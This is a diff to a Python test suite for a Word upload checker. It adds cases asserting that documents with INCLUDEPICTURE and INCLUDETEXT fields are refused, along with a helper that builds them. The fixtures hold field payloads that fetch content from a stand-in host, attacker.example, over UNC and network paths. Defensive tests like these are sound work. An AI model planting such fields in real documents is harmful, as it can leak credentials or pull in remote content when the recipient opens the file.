@@ -191,6 +191,18 @@ def test_an_upload_over_the_limit_is_refused(as_role, tracked):
      "could lead outside the document"),
     ("embedded", lambda: repacked(docx_bytes(), {"word/embeddings/oleObject1.xlsx": b"PK"}),
      "it embeds objects"),
+    # A picture fetched from another computer when Word updates fields, its instruction split
+    # across runs as Word writes it; text included from a share by a simple field.
+    ("include-picture", lambda: with_paragraph(
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
+        '<w:r><w:instrText xml:space="preserve">PICTURE "\\\\attacker.example\\x.png" \\d'
+        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'),
+     "a field that fetches content when Word updates it"),
+    ("include-text", lambda: with_paragraph(
+        '<w:fldSimple w:instr=" INCLUDETEXT &quot;//attacker.example/x.docx&quot; ">'
+        "<w:r><w:t>x</w:t></w:r></w:fldSimple>"),
+     "a field that fetches content when Word updates it"),
 ])
 def test_a_word_upload_that_is_not_a_plain_document_is_refused(as_role, tracked, name, make,
                                                                 says):
@@ -216,8 +228,26 @@ def with_relationship(kind: str, target: str, content: bytes | None = None,
                                                         extra + "</Relationships>").encode()})
 
 
+def with_paragraph(inner: str) -> bytes:
+    """A document with one more paragraph, of the runs given, at the end of its body."""
+    content = docx_bytes()
+    xml = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml").decode()
+    at = xml.rindex("<w:sectPr")
+    return repacked(content, change={"word/document.xml": (
+        xml[:at] + f"<w:p>{inner}</w:p>" + xml[at:]).encode()})
+
+
 def test_a_plain_word_document_passes_the_checks():
     check_docx(docx_bytes(), "plain.docx")
+
+
+def test_fields_that_fetch_nothing_pass():
+    check_docx(with_paragraph(
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText>'
+        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>3</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        '<w:fldSimple w:instr=\' HYPERLINK "https://www.gov.uk/" \'><w:r><w:t>GOV.UK</w:t>'
+        "</w:r></w:fldSimple>"), "fields.docx")
 
 
 def test_a_web_link_is_kept(tmp_path):
